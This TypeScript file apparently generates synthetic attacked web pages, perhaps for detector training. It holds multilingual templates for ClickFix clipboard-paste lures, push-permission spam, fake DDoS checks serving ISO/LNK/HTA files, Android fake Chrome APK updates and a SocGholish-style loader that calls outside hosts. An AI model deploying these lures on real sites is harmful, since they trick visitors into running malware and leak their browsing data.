  nl: { head: "Deze pagina is niet goed geladen", body: "Door een probleem met het beveiligingscertificaat van uw browser wordt een deel van de inhoud niet weergegeven. Klik op ‘Zo lost u het op’ om het basiscertificaat bij te werken.", button: "Zo lost u het op", steps: ["Klik met de rechtermuisknop op Start en kies ‘Windows PowerShell (Administrator)’ of ‘Terminal (Administrator)’", "Klik met de rechtermuisknop in het venster om de oplossing te plakken", "Druk op Enter en laad deze pagina opnieuw"], done: "De oplossing is naar het klembord gekopieerd." },
  pt: { head: "Esta página não carregou corretamente", body: "Um problema com o certificado de segurança do seu navegador impediu a exibição de parte do conteúdo. Clique em “Como corrigir” para atualizar o certificado raiz.", button: "Como corrigir", steps: ["Clique com o botão direito em Iniciar e escolha “Windows PowerShell (Admin)” ou “Terminal (Admin)”", "Clique com o botão direito na janela para colar a correção", "Pressione Enter e recarregue esta página"], done: "A correção foi copiada para a área de transferência." },
  it: { head: "Questa pagina non è stata caricata correttamente", body: "Un problema con il certificato di sicurezza del browser impedisce la visualizzazione di alcuni contenuti. Fai clic su «Come risolvere» per aggiornare il certificato radice.", button: "Come risolvere", steps: ["Fai clic destro sul pulsante Start e scegli «Windows PowerShell (amministratore)» o «Terminale (amministratore)»", "Fai clic destro nella finestra per incollare la correzione", "Premi Invio e ricarica questa pagina"], done: "La correzione è stata copiata negli appunti." }
}

// The first ClickFix lures, recalled from memory of Proofpoint's write-up (about June 2024) on compromised sites showing a fake browser error ("something went wrong while displaying this web page", a root-certificate problem) with a "How to fix" button that copied a PowerShell command and told the visitor to paste it into an administrator PowerShell window: an error bar or box over the page, not a CAPTCHA.
const howToFix = fresh26("'this page did not load correctly' error bar over the site whose 'How to fix' button copies a PowerShell command and shows steps to run it", (page, rng) => {
  const w = siteOr(rng, page, howToFixWords)
  const cmd = winCommand(rng, evilHost(rng, page))
  const id = idOf(rng, ["err", "fix", "cert", "notice", "alert"])
  const f = font(rng)
  const code = chance(rng, 0.5) ? ` <small style="color:#777">(${pick(rng, ["ERR_CERT_AUTHORITY_INVALID", "NET::ERR_CERT_DATE_INVALID", "ERR_SSL_PROTOCOL_ERROR", `0x${hex(rng, 8).toUpperCase()}`, "DNS_PROBE_FINISHED_BAD_CONFIG"])})</small>` : ""
  const inner = `<div style="display:flex;gap:14px;align-items:flex-start"><span style="font-size:${between(rng, 26, 40)}px;line-height:1">${pick(rng, ["⚠️", "❗", "⛔", "🛑"])}</span><div><h2 style="margin:0 0 6px;font-size:${between(rng, 17, 22)}px">${esc(w.head)}${code}</h2><p style="margin:0 0 10px">${esc(w.body)}</p><button type="button" id="${id}-b" style="background:${pick(rng, ["#1a73e8", "#0b57d0", "#d93025", "#2b579a"])};color:#fff;border:0;border-radius:4px;padding:9px 18px;cursor:pointer">${esc(w.button)}</button><div id="${id}-s" style="display:none;margin-top:10px"><p style="margin:0 0 6px;font-weight:bold">${esc(w.done)}</p><ol style="margin:0 0 0 18px;padding:0">${w.steps.map((s) => `<li>${esc(s)}</li>`).join("")}</ol></div></div></div>`
  const box = pick(rng, [
    `<div id="${id}" style="position:fixed;top:0;left:0;right:0;z-index:${zTop(rng)};background:#fff4e5;border-bottom:2px solid #f0a000;padding:14px 20px;font:14px ${f};color:#222">${inner}</div>`,
    `<div id="${id}" style="position:fixed;${cover(rng)};z-index:${zTop(rng)};background:rgba(0,0,0,.5)"><div style="max-width:${between(rng, 460, 620)}px;margin:${between(rng, 8, 20)}vh auto 0;background:#fff;border-radius:6px;padding:20px;font:14px ${f};color:#222">${inner}</div></div>`,
    `<div id="${id}" style="max-width:${between(rng, 520, 760)}px;margin:${between(rng, 10, 24)}px auto;padding:16px 20px;border:1px solid #e0b4b4;background:#fff6f6;font:14px ${f};color:#222">${inner}</div>`
  ])
  const script = `<script>document.getElementById("${id}-b").addEventListener("click",function(){${copyCode(rng, cmd)}document.getElementById("${id}-s").style.display="block"});</script>`
  return splices(insert(box.includes("position:fixed") ? overlaySpot(rng, page) : noticeSpot(rng, page), box + script))
})

const meetWords: T<{ readonly head: string; readonly body: string; readonly button: string; readonly win: ReadonlyArray<string>; readonly mac: ReadonlyArray<string>; readonly join: string }> = {
  en: { head: "Problem with your microphone and camera", body: "Your browser could not access your microphone and camera. To join the meeting, apply the fix below.", button: "Try fix", win: ["Press Windows + R", "Press Ctrl + V", "Press Enter"], mac: ["Press ⌘ + Space, type “Terminal” and press Return", "Press ⌘ + V", "Press Return"], join: "Waiting to join…" },
  fr: { head: "Problème avec votre micro et votre caméra", body: "Votre navigateur n'a pas pu accéder à votre micro et à votre caméra. Pour rejoindre la réunion, appliquez la correction ci-dessous.", button: "Corriger", win: ["Appuyez sur Windows + R", "Appuyez sur Ctrl + V", "Appuyez sur Entrée"], mac: ["Appuyez sur ⌘ + Espace, tapez « Terminal » puis Entrée", "Appuyez sur ⌘ + V", "Appuyez sur Entrée"], join: "En attente de connexion…" },
  de: { head: "Problem mit Mikrofon und Kamera", body: "Ihr Browser konnte nicht auf Mikrofon und Kamera zugreifen. Wenden Sie die folgende Korrektur an, um der Besprechung beizutreten.", button: "Problem beheben", win: ["Drücken Sie Windows + R", "Drücken Sie Strg + V", "Drücken Sie die Eingabetaste"], mac: ["Drücken Sie ⌘ + Leertaste, tippen Sie „Terminal“ und drücken Sie den Zeilenschalter", "Drücken Sie ⌘ + V", "Drücken Sie den Zeilenschalter"], join: "Warten auf Beitritt…" },
  es: { head: "Problema con el micrófono y la cámara", body: "Su navegador no ha podido acceder al micrófono y a la cámara. Para unirse a la reunión, aplique la solución siguiente.", button: "Solucionar", win: ["Pulse Windows + R", "Pulse Ctrl + V", "Pulse Intro"], mac: ["Pulse ⌘ + Espacio, escriba «Terminal» y pulse Retorno", "Pulse ⌘ + V", "Pulse Retorno"], join: "Esperando para unirse…" },
  nl: { head: "Probleem met je microfoon en camera", body: "Je browser heeft geen toegang tot je microfoon en camera. Pas de oplossing hieronder toe om deel te nemen aan de vergadering.", button: "Oplossen", win: ["Druk op Windows + R", "Druk op Ctrl + V", "Druk op Enter"], mac: ["Druk op ⌘ + spatiebalk, typ ‘Terminal’ en druk op Return", "Druk op ⌘ + V", "Druk op Return"], join: "Wachten om deel te nemen…" },
  pt: { head: "Problema com o microfone e a câmera", body: "Seu navegador não conseguiu acessar o microfone e a câmera. Para entrar na reunião, aplique a correção abaixo.", button: "Corrigir", win: ["Pressione Windows + R", "Pressione Ctrl + V", "Pressione Enter"], mac: ["Pressione ⌘ + Espaço, digite “Terminal” e pressione Return", "Pressione ⌘ + V", "Pressione Return"], join: "Aguardando para entrar…" },
  it: { head: "Problema con microfono e fotocamera", body: "Il browser non riesce ad accedere a microfono e fotocamera. Per partecipare alla riunione applica la correzione qui sotto.", button: "Risolvi", win: ["Premi Windows + R", "Premi Ctrl + V", "Premi Invio"], mac: ["Premi ⌘ + Spazio, digita «Terminale» e premi Invio", "Premi ⌘ + V", "Premi Invio"], join: "In attesa di partecipare…" }
}

// Fake meeting pages with a fix-it command, recalled from memory of Sekoia's report on ClickFix pages imitating Google Meet (and Zoom, Teams) video calls whose "microphone blocked" error offered a "Try fix" button copying a Windows or macOS command (about October 2024), some hosted on compromised sites: a dark meeting screen drawn over the page with a meeting code, and the command chosen for the visitor's system.
const meetingFix = fresh26("video-meeting screen drawn over the site ('your microphone is blocked') whose 'Try fix' button copies a command to run (fake Google Meet, Zoom or Teams)", (page, rng) => {
  const w = siteOr(rng, page, meetWords)
  const host = evilHost(rng, page)
  const win = winCommand(rng, host)
  const mac = macCommand(rng, host)
  const app = pick(rng, ["Google Meet", "Zoom Workplace", "Microsoft Teams", "Webex"])
  const code = app === "Google Meet" ? `${alnum(rng, 3).replace(/\d/g, "a")}-${alnum(rng, 4).replace(/\d/g, "b")}-${alnum(rng, 3).replace(/\d/g, "c")}` : `${digits(rng, 3)} ${digits(rng, 4)} ${digits(rng, 4)}`
  const id = idOf(rng, ["meet", "call", "mtg", "room"])
  const f = font(rng)
  const tiles = Array.from({ length: between(rng, 2, 4) }, () => `<div style="width:${between(rng, 120, 180)}px;height:${between(rng, 80, 110)}px;background:#3c4043;border-radius:8px;display:flex;align-items:center;justify-content:center;font-size:28px;color:#fff">${pick(rng, ["A", "M", "J", "S", "K", "L", "R", "D"])}</div>`).join("")
  const stepsWin = w.win.map((s) => `<li>${esc(s)}</li>`).join("")
  const stepsMac = w.mac.map((s) => `<li>${esc(s)}</li>`).join("")
  const html = `<div id="${id}" style="position:fixed;${cover(rng)};z-index:${zTop(rng)};background:#202124;color:#e8eaed;font:14px ${f};overflow:auto"><div style="padding:14px 20px;font-size:16px">${esc(app)} · ${esc(code)}</div><div style="display:flex;gap:10px;justify-content:center;margin:${between(rng, 2, 8)}vh 0">${tiles}</div><div style="max-width:${between(rng, 400, 520)}px;margin:0 auto;background:#fff;color:#202124;border-radius:8px;padding:18px"><h2 style="margin:0 0 8px;font-size:18px">🎙️ ${esc(w.head)}</h2><p style="margin:0 0 12px">${esc(w.body)}</p><button type="button" id="${id}-b" style="background:#1a73e8;color:#fff;border:0;border-radius:18px;padding:9px 22px">${esc(w.button)}</button><ol id="${id}-w" style="display:none;margin:12px 0 0 18px">${stepsWin}</ol><ol id="${id}-m" style="display:none;margin:12px 0 0 18px">${stepsMac}</ol></div><p style="text-align:center;color:#9aa0a6">${esc(w.join)}</p></div>`
  const script = `<script>document.getElementById("${id}-b").addEventListener("click",function(){var m=/Mac/i.test(navigator.platform||navigator.userAgent);var c=m?${js(mac)}:${js(win)};navigator.clipboard.writeText(c);document.getElementById(m?"${id}-m":"${id}-w").style.display="block"});</script>`
  return splices(insert(overlaySpot(rng, page), html + script))
})

const updateWords: T<{ readonly working: string; readonly pct: (n: number) => string; readonly dont: string; readonly finish: (kb: string) => string; readonly steps: ReadonlyArray<string> }> = {
  en: { working: "Working on updates", pct: (n) => `${n}% complete`, dont: "Don't turn off your computer. This will take a while.", finish: (kb) => `Critical security update ${kb} could not be completed automatically. To finish installing it:`, steps: ["Press Windows + R", "Press Ctrl + V", "Press Enter"] },
  fr: { working: "Mise à jour en cours", pct: (n) => `${n} % effectué`, dont: "N'éteignez pas votre ordinateur. Cela peut prendre un certain temps.", finish: (kb) => `La mise à jour de sécurité critique ${kb} n'a pas pu se terminer automatiquement. Pour finir l'installation :`, steps: ["Appuyez sur Windows + R", "Appuyez sur Ctrl + V", "Appuyez sur Entrée"] },
  de: { working: "Updates werden bearbeitet", pct: (n) => `${n} % abgeschlossen`, dont: "Schalten Sie den Computer nicht aus. Dieser Vorgang kann einige Zeit dauern.", finish: (kb) => `Das kritische Sicherheitsupdate ${kb} konnte nicht automatisch abgeschlossen werden. So schließen Sie die Installation ab:`, steps: ["Drücken Sie Windows + R", "Drücken Sie Strg + V", "Drücken Sie die Eingabetaste"] },
  es: { working: "Trabajando en las actualizaciones", pct: (n) => `${n} % completado`, dont: "No apagues el equipo. Esto tardará un rato.", finish: (kb) => `La actualización de seguridad crítica ${kb} no se pudo completar automáticamente. Para terminar de instalarla:`, steps: ["Pulsa Windows + R", "Pulsa Ctrl + V", "Pulsa Intro"] },
  nl: { working: "Bezig met updates", pct: (n) => `${n}% voltooid`, dont: "Zet de computer niet uit. Dit kan even duren.", finish: (kb) => `De kritieke beveiligingsupdate ${kb} kon niet automatisch worden voltooid. Zo rondt u de installatie af:`, steps: ["Druk op Windows + R", "Druk op Ctrl + V", "Druk op Enter"] },
  pt: { working: "Trabalhando em atualizações", pct: (n) => `${n}% concluído`, dont: "Não desligue o computador. Isso levará algum tempo.", finish: (kb) => `A atualização de segurança crítica ${kb} não pôde ser concluída automaticamente. Para terminar a instalação:`, steps: ["Pressione Windows + R", "Pressione Ctrl + V", "Pressione Enter"] },
  it: { working: "Aggiornamenti in corso", pct: (n) => `${n}% completato`, dont: "Non spegnere il computer. L'operazione potrebbe richiedere alcuni minuti.", finish: (kb) => `L'aggiornamento di sicurezza critico ${kb} non è stato completato automaticamente. Per terminare l'installazione:`, steps: ["Premi Windows + R", "Premi Ctrl + V", "Premi Invio"] }
}

// Full-screen fake Windows Update, recalled from memory of reports on ClickFix lures that take the browser to full screen and imitate the blue Windows Update screen with a creeping percentage before asking the visitor to press Win+R and paste (Huntress and others, about late 2025): the screen drawn over the page, full screen requested on the first click, the command already on the clipboard.
const windowsUpdateFix = fresh26("full-window fake Windows Update screen ('working on updates 38% complete') that ends in a Win+R instruction to paste a copied command", (page, rng) => {
  const w = siteOr(rng, page, updateWords)
  const cmd = winCommand(rng, evilHost(rng, page))
  const id = idOf(rng, ["wu", "upd", "winupd", "sys"])
  const start = between(rng, 12, 70)
  const kb = `KB${between(rng, 5030000, 5069999)}`
  const html = `<div id="${id}" style="position:fixed;${cover(rng)};z-index:${zTop(rng)};background:${pick(rng, ["#0078d7", "#006dae", "#0063b1", "#1e3c72"])};color:#fff;font:${between(rng, 18, 24)}px 'Segoe UI',Tahoma,sans-serif;text-align:center;cursor:none"><div style="margin-top:${between(rng, 22, 32)}vh;font-size:40px;letter-spacing:6px">• • • • •</div><p style="margin:24px 0 6px">${esc(w.working)}</p><p id="${id}-p" style="margin:0 0 6px">${esc(w.pct(start))}</p><p style="margin:0">${esc(w.dont)}</p><div id="${id}-f" style="display:none;max-width:560px;margin:28px auto 0;font-size:16px;text-align:left"><p>${esc(w.finish(kb))}</p><ol>${w.steps.map((s) => `<li>${esc(s)}</li>`).join("")}</ol></div></div>`
  const stop = between(rng, 88, 99)
  const script = `<script>(function(){var n=${start},p=document.getElementById("${id}-p"),d=document.getElementById("${id}");document.addEventListener("click",function(){${copyCode(rng, cmd)}if(d.requestFullscreen)d.requestFullscreen().catch(function(){})},{once:true});var i=setInterval(function(){n+=1;p.textContent=${js(w.pct(0))}.replace(/^0/,n);if(n>=${stop}){clearInterval(i);document.getElementById("${id}-f").style.display="block"}},${between(rng, 300, 1500)})})();</script>`
  return splices(insert(overlaySpot(rng, page), html + script))
})

const allowWords: T<ReadonlyArray<string>> = {
  en: ["Click “Allow” to confirm that you are not a robot", "Click “Allow” to watch the video", "Click “Allow” to download your file", "Press “Allow” if you are 18 or older", "Click “Allow” to continue reading"],
  fr: ["Cliquez sur « Autoriser » pour confirmer que vous n'êtes pas un robot", "Cliquez sur « Autoriser » pour regarder la vidéo", "Cliquez sur « Autoriser » pour télécharger votre fichier", "Appuyez sur « Autoriser » si vous avez 18 ans ou plus", "Cliquez sur « Autoriser » pour continuer la lecture"],
  de: ["Klicken Sie auf „Zulassen“, um zu bestätigen, dass Sie kein Roboter sind", "Klicken Sie auf „Zulassen“, um das Video anzusehen", "Klicken Sie auf „Zulassen“, um Ihre Datei herunterzuladen", "Drücken Sie „Zulassen“, wenn Sie mindestens 18 Jahre alt sind", "Klicken Sie auf „Zulassen“, um weiterzulesen"],
  es: ["Haga clic en «Permitir» para confirmar que no es un robot", "Haga clic en «Permitir» para ver el vídeo", "Haga clic en «Permitir» para descargar su archivo", "Pulse «Permitir» si tiene 18 años o más", "Haga clic en «Permitir» para seguir leyendo"],
  nl: ["Klik op ‘Toestaan’ om te bevestigen dat u geen robot bent", "Klik op ‘Toestaan’ om de video te bekijken", "Klik op ‘Toestaan’ om uw bestand te downloaden", "Druk op ‘Toestaan’ als u 18 jaar of ouder bent", "Klik op ‘Toestaan’ om verder te lezen"],
  pt: ["Clique em “Permitir” para confirmar que você não é um robô", "Clique em “Permitir” para assistir ao vídeo", "Clique em “Permitir” para baixar seu arquivo", "Pressione “Permitir” se tiver 18 anos ou mais", "Clique em “Permitir” para continuar lendo"],
  it: ["Fai clic su «Consenti» per confermare che non sei un robot", "Fai clic su «Consenti» per guardare il video", "Fai clic su «Consenti» per scaricare il file", "Premi «Consenti» se hai almeno 18 anni", "Fai clic su «Consenti» per continuare a leggere"]
}

// Push-permission lures, recalled from memory of Malwarebytes' and Sucuri's write-ups on notification-spam pages and injected scripts (about 2019–2024: a robot picture or a fake video player, "Click Allow if you are not a robot", an arrow pointing at the browser's permission prompt) that subscribe visitors to push-ad networks sending scam notifications afterwards: the lure drawn over the page and the permission asked at once, the subscription handed to the network's script.
const allowPushLure = fresh26("'click Allow to confirm you are not a robot' overlay with an arrow toward the browser's permission prompt, subscribing visitors to a push-ad network", (page, rng) => {
  const text = pick(rng, siteOr(rng, page, allowWords))
  const host = pick(rng, [evilHost(rng, page), `${pick(rng, ["push", "notify", "ntf", "alerts", "news-feed", "pn"])}${pick(rng, ["", "-"])}${alnum(rng, 4)}.${tld(rng)}`])
  const zone = digits(rng, between(rng, 6, 8))
  const id = idOf(rng, ["allow", "push", "robot", "ntf"])
  const picture = pick(rng, [
    `<div style="font-size:${between(rng, 70, 120)}px;line-height:1">🤖</div>`,
    `<div style="width:${between(rng, 260, 420)}px;height:${between(rng, 150, 230)}px;margin:0 auto;background:#000;border-radius:6px;display:flex;align-items:center;justify-content:center"><span style="font-size:48px;color:#fff">▶</span></div>`,
    `<div style="font-size:${between(rng, 60, 90)}px;line-height:1">📥</div>`,
    `<svg width="${between(rng, 90, 130)}" height="${between(rng, 90, 130)}" viewBox="0 0 100 100"><rect x="20" y="30" width="60" height="50" rx="10" fill="#9aa0a6"/><circle cx="38" cy="52" r="7" fill="#fff"/><circle cx="62" cy="52" r="7" fill="#fff"/><rect x="46" y="10" width="8" height="20" fill="#9aa0a6"/></svg>`
  ])
  const arrow = `<div style="position:absolute;top:${between(rng, 4, 20)}px;left:${between(rng, 80, 360)}px;font-size:${between(rng, 44, 80)}px;color:${pick(rng, ["#e53935", "#1e88e5", "#222"])}">${pick(rng, ["⬆", "↖", "⇧", "☝"])}</div>`
  const html = `<div id="${id}" style="position:fixed;${cover(rng)};z-index:${zTop(rng)};background:${pick(rng, ["rgba(0,0,0,.75)", "#fff", "rgba(255,255,255,.97)", "#111"])};color:${pick(rng, ["#fff", "#222"])};text-align:center;font:${between(rng, 20, 30)}px ${font(rng)}">${arrow}<div style="margin-top:${between(rng, 18, 30)}vh">${picture}<p style="margin:18px 20px">${esc(text)}</p></div></div>`
  const subscribe = pick(rng, [
    `var s=document.createElement("script");s.src="https://${host}/${pick(rng, ["ntfc.php", "sw-sub.js", "push/sub.js", "pfe/current/tag.min.js"])}?${pick(rng, ["p", "z", "zone", "id"])}=${zone}";document.head.appendChild(s);`,
    `location.href="https://${host}/${pick(rng, ["sub", "allow", "subscribe"])}/?z=${zone}&src="+location.hostname;`,
    `var f=document.createElement("iframe");f.src="https://${host}/${pick(rng, ["sub.html", "p/frame"])}?z=${zone}";f.style.cssText="display:none";document.body.appendChild(f);`
  ])
  const script = `<script>(function(){if(!("Notification" in window))return;Notification.requestPermission().then(function(p){if(p==="granted"){${subscribe}document.getElementById("${id}").style.display="none"}${chance(rng, 0.5) ? `else{location.href=${js(landing(rng, page))}}` : ""}})})();</script>`
  return splices(insert(overlaySpot(rng, page), html + script))
})

const ddosWords: T<{ readonly checking: (h: string) => string; readonly wait: string; readonly need: string; readonly code: string; readonly download: string; readonly go: string; readonly by: string }> = {
  en: { checking: (h) => `Checking your browser before accessing ${h}`, wait: "This process is automatic. Your browser will redirect to your requested content shortly.", need: "To continue, download the verification file and open it to get your access code.", code: "Verification code", download: "Download verification file", go: "Continue", by: "DDoS protection by" },
  fr: { checking: (h) => `Vérification de votre navigateur avant d'accéder à ${h}`, wait: "Ce processus est automatique. Votre navigateur va bientôt afficher le contenu demandé.", need: "Pour continuer, téléchargez le fichier de vérification et ouvrez-le pour obtenir votre code d'accès.", code: "Code de vérification", download: "Télécharger le fichier de vérification", go: "Continuer", by: "Protection DDoS par" },
  de: { checking: (h) => `Ihr Browser wird überprüft, bevor Sie auf ${h} zugreifen`, wait: "Dieser Vorgang ist automatisch. Ihr Browser leitet Sie in Kürze zum gewünschten Inhalt weiter.", need: "Laden Sie zum Fortfahren die Prüfdatei herunter und öffnen Sie sie, um Ihren Zugangscode zu erhalten.", code: "Prüfcode", download: "Prüfdatei herunterladen", go: "Weiter", by: "DDoS-Schutz durch" },
  es: { checking: (h) => `Comprobando su navegador antes de acceder a ${h}`, wait: "Este proceso es automático. Su navegador le redirigirá en breve al contenido solicitado.", need: "Para continuar, descargue el archivo de verificación y ábralo para obtener su código de acceso.", code: "Código de verificación", download: "Descargar archivo de verificación", go: "Continuar", by: "Protección DDoS de" },
  nl: { checking: (h) => `Uw browser wordt gecontroleerd voordat u ${h} opent`, wait: "Dit proces is automatisch. Uw browser stuurt u zo door naar de gevraagde inhoud.", need: "Download om verder te gaan het verificatiebestand en open het om uw toegangscode te krijgen.", code: "Verificatiecode", download: "Verificatiebestand downloaden", go: "Doorgaan", by: "DDoS-bescherming door" },
  pt: { checking: (h) => `Verificando seu navegador antes de acessar ${h}`, wait: "Este processo é automático. Seu navegador será redirecionado em breve para o conteúdo solicitado.", need: "Para continuar, baixe o arquivo de verificação e abra-o para obter seu código de acesso.", code: "Código de verificação", download: "Baixar arquivo de verificação", go: "Continuar", by: "Proteção DDoS por" },
  it: { checking: (h) => `Verifica del browser prima di accedere a ${h}`, wait: "Questo processo è automatico. Il browser ti reindirizzerà a breve al contenuto richiesto.", need: "Per continuare, scarica il file di verifica e aprilo per ottenere il codice di accesso.", code: "Codice di verifica", download: "Scarica il file di verifica", go: "Continua", by: "Protezione DDoS di" }
}

// Fake DDoS checks with a file to open, recalled from memory of Sucuri's report (about August 2022) on hacked WordPress sites showing a fake Cloudflare DDoS-protection page that asked visitors to download "security_install.iso" (whose shortcut ran a remote-access trojan) to get a verification code to type in: the check drawn over the page in the site's name, the file on another host.
const ddosVerifyFile = fresh26("fake DDoS-protection check over the site that asks visitors to download and open a file to get their 'verification code' (ISO, ZIP, shortcut or script)", (page, rng) => {
  const w = siteOr(rng, page, ddosWords)
  const file = `${pick(rng, ["security_install", "verify", "cf_verification", "access_code", "ddos_check", "human_verify"])}${pick(rng, ["", `_${digits(rng, 4)}`])}.${pick(rng, ["iso", "zip", "img", "vhd", "lnk", "js", "hta", "msi"])}`
  const url = `https://${evilHost(rng, page)}/${pick(rng, ["", "files/", "dl/", "verify/"])}${file}`
  const vendor = pick(rng, ["Cloudflare", "Sucuri", "DDoS-Guard", "StormWall"])
  const id = idOf(rng, ["ddos", "cf", "check", "guard"])
  const f = font(rng)
  const html = `<div id="${id}" style="position:fixed;${cover(rng)};z-index:${zTop(rng)};background:#fff;color:#313131;font:15px ${f};text-align:center"><div style="max-width:${between(rng, 520, 680)}px;margin:${between(rng, 10, 20)}vh auto 0;padding:0 16px"><h1 style="font-size:${between(rng, 20, 28)}px;font-weight:500">${esc(w.checking(page.site.host))}</h1><p>${esc(w.wait)}</p><p style="font-weight:bold">${esc(w.need)}</p><p><a href="${esc(url)}" download style="display:inline-block;background:${pick(rng, ["#f38020", "#1f6feb", "#2e7d32", "#404040"])};color:#fff;padding:10px 22px;border-radius:4px;text-decoration:none">${esc(w.download)}</a></p><form onsubmit="return false"><label>${esc(w.code)}: <input type="text" name="code" size="10" maxlength="${between(rng, 6, 10)}"></label> <button type="submit">${esc(w.go)}</button></form><p style="margin-top:30px;font-size:12px;color:#888">${esc(w.by)} ${vendor} · Ray ID: ${hex(rng, 16)}</p></div></div>`
  return splices(insert(overlaySpot(rng, page), html))
})

// ———————————————————————————— fake updates and loaders ————————————————————————————

const chromeWords: T<{ readonly head: string; readonly body: string; readonly button: string; readonly ver: string }> = {
  en: { head: "Your Chrome version is out of date", body: "Chrome cannot display this page safely. Update now to keep browsing.", button: "Update Chrome", ver: "Installed version" },
  fr: { head: "Votre version de Chrome n'est plus à jour", body: "Chrome ne peut pas afficher cette page en toute sécurité. Mettez à jour maintenant pour continuer.", button: "Mettre à jour Chrome", ver: "Version installée" },
  de: { head: "Ihre Chrome-Version ist veraltet", body: "Chrome kann diese Seite nicht sicher anzeigen. Aktualisieren Sie jetzt, um weiterzusurfen.", button: "Chrome aktualisieren", ver: "Installierte Version" },
  es: { head: "Su versión de Chrome está desactualizada", body: "Chrome no puede mostrar esta página de forma segura. Actualice ahora para seguir navegando.", button: "Actualizar Chrome", ver: "Versión instalada" },
  nl: { head: "Uw Chrome-versie is verouderd", body: "Chrome kan deze pagina niet veilig weergeven. Werk nu bij om verder te surfen.", button: "Chrome bijwerken", ver: "Geïnstalleerde versie" },
  pt: { head: "Sua versão do Chrome está desatualizada", body: "O Chrome não pode exibir esta página com segurança. Atualize agora para continuar navegando.", button: "Atualizar o Chrome", ver: "Versão instalada" },
  it: { head: "La tua versione di Chrome non è aggiornata", body: "Chrome non può mostrare questa pagina in modo sicuro. Aggiorna ora per continuare a navigare.", button: "Aggiorna Chrome", ver: "Versione installata" }
}

// Fake Chrome updates for Android, recalled from memory of ThreatFabric's and Cleafy's reports on Android banking trojans (Hook, ERMAC, Brokewell and others, about 2023–2024) spread through compromised and look-alike sites showing "update Chrome" pages that download an APK: the page drawn only for Android browsers by a user-agent check, the APK on another host.
const androidChromeApk = fresh26("on Android phones only, a 'Chrome needs to be updated' screen drawn over the site offering an APK from another host", (page, rng) => {
  const w = siteOr(rng, page, chromeWords)
  const apk = `https://${evilHost(rng, page)}/${pick(rng, ["", "apk/", "download/", "update/"])}${pick(rng, ["Chrome", "chrome_update", "ChromeUpdate", "Chrome-Setup", "com.android.chrome", "update"])}${pick(rng, ["", `_${between(rng, 120, 140)}`])}.apk`
  const id = idOf(rng, ["upd", "chrome", "cu"])
  const old = `${between(rng, 96, 118)}.0.${between(rng, 4000, 6000)}.${between(rng, 10, 200)}`
  const logo = `<svg width="72" height="72" viewBox="0 0 48 48"><circle cx="24" cy="24" r="22" fill="#db4437"/><path d="M24 2a22 22 0 0 1 19 11H24z" fill="#db4437"/><path d="M43 13a22 22 0 0 1-11 28L24 24z" fill="#f4b400"/><path d="M32 41A22 22 0 0 1 5 13l19 11z" fill="#0f9d58"/><circle cx="24" cy="24" r="9" fill="#fff"/><circle cx="24" cy="24" r="7" fill="#4285f4"/></svg>`
  const html = `<div id="${id}" style="display:none;position:fixed;${cover(rng)};z-index:${zTop(rng)};background:#fff;color:#202124;font:16px Roboto,Arial,sans-serif;text-align:center;padding:0 18px">${chance(rng, 0.8) ? `<div style="margin-top:12vh">${logo}</div>` : ""}<h2 style="font-weight:500">${esc(w.head)}</h2><p>${esc(w.body)}</p><p style="color:#5f6368;font-size:13px">${esc(w.ver)}: ${old}</p><a href="${esc(apk)}" style="display:inline-block;background:#1a73e8;color:#fff;padding:12px 28px;border-radius:4px;text-decoration:none">${esc(w.button)}</a></div>`
  const check = pick(rng, [`/Android/i.test(navigator.userAgent)`, `/Android/i.test(navigator.userAgent)&&/Chrome/i.test(navigator.userAgent)`, `/Android|Mobile/i.test(navigator.userAgent)&&screen.width<900`])
  const script = `<script>if(${check}){document.getElementById("${id}").style.display="block"${chance(rng, 0.4) ? `;setTimeout(function(){location.href=${js(apk)}},${between(rng, 3000, 9000)})` : ""}}</script>`
  return splices(insert(overlaySpot(rng, page), html + script))
})

const bizWords = ["smith", "oakridge", "bluepeak", "harbor", "meridian", "sterling", "cedar", "summit", "granite", "riverside", "pinecrest", "lakeside", "northgate", "westfield", "highland"]
const bizKinds = ["realty", "lawgroup", "dental", "plumbing", "roofing", "insurance", "accounting", "autobody", "vet", "chiropractic", "landscaping", "partners", "consulting", "homes"]

// SocGholish-style injections on shadowed subdomains, recalled from memory of Sucuri's, Proofpoint's and Red Canary's descriptions of SocGholish (FakeUpdates, about 2018–2024) and of Infoblox and Cisco Talos on domain shadowing: a short inline snippet builds a script address on a subdomain (content., track., apps.) of an unrelated, legitimate-looking small business's domain whose DNS the criminals control, passing the current page and referrer, and the answer decides whether a fake update appears.
const shadowedLoader = fresh26("inline loader asking a subdomain of an unrelated small business's domain for a script, passing the page address and referrer (domain shadowing, SocGholish style)", (page, rng) => {
  const host = `${pick(rng, ["content", "track", "apps", "hello", "course", "rates", "join", "learn", "promo", "tiles", "events", "cdn2"])}.${pick(rng, bizWords)}${pick(rng, bizKinds)}${pick(rng, ["", "-llc", "co", "group"])}.${pick(rng, ["com", "net", "us", "org", "biz"])}`
  const path = pick(rng, [`/${alnum(rng, 8)}`, `/s_code.js`, `/report`, `/${pick(rng, ["zfgformats", "jquery.metadata", "ajax-loader"])}`])
  const code = pick(rng, [
    () => `var d=document,s=d.createElement("script");s.async=true;s.src="https://${host}${path}?"+btoa(location.href).replace(/=/g,"")+";"+btoa(d.referrer).replace(/=/g,"");d.getElementsByTagName("head")[0].appendChild(s);`,
    () => `var s=document.createElement("script");s.src="https://${host}${path}?r="+encodeURIComponent(document.referrer)+"&p="+encodeURIComponent(location.href)+"&k=${alnum(rng, 8)}";s.async=1;(document.head||document.documentElement).appendChild(s);`,
    () => `;(function(){var e=document.createElement("script"),t="https://${host}${path}?"+btoa(location.href+"|"+document.referrer);e.src=t;e.setAttribute("data-cfasync","false");document.body.appendChild(e)})();`
  ])()
  const gated = chance(rng, 0.5) ? `if(/Windows/.test(navigator.userAgent)&&document.cookie.indexOf("_${alnum(rng, 3)}=")<0){${code}}` : code
  return splices(insert(scriptSpot(rng, page), wrapScript(rng, gated)))
})

// ———————————————————————————— spam in its campaigns' languages ————————————————————————————

const ruCities = ["Москве", "Санкт-Петербурге", "Новосибирске", "Екатеринбурге", "Казани", "Краснодаре", "Самаре", "Ростове-на-Дону", "Уфе", "Челябинске", "Перми", "Воронеже"]
const ruDocs = ["диплом о высшем образовании", "диплом колледжа", "аттестат за 11 класс", "диплом медсестры", "диплом бакалавра", "диплом магистра", "удостоверение тракториста", "диплом техникума", "свидетельство о браке", "диплом юриста", "корочку электрика", "диплом ПТУ"]

